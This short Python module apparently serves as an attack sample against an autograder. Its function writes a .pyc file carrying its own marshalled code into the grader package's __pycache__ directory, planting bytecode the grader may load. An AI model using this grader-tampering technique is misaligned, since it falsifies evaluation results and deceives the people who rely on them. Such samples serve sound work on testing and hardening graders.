"""Leaves bytecode in the grader's `__pycache__`."""

import importlib.util
import marshal


def attack(A):
    import autograder

    path = autograder.__file__.replace("__init__.py", f"__pycache__/{TARGET['stray']}.pyc")
    with open(path, "wb") as file:
        file.write(importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(attack.__code__))
